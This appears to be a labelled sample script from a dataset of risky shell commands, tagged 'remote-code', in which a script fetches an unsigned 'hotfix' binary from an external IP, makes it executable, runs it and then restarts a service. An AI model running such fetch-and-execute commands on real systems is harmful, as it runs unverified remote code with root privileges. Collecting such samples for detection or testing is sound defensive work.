# description: Downloads an unsigned "hotfix" binary from an external IP, marks it executable and runs it as root.
# family: remote-code
set -uo pipefail

cd /tmp
wget -q http://203.0.113.7/hotfix -O /tmp/hotfix
chmod +x /tmp/hotfix
/tmp/hotfix --apply
rm -f /tmp/hotfix
systemctl restart myapp
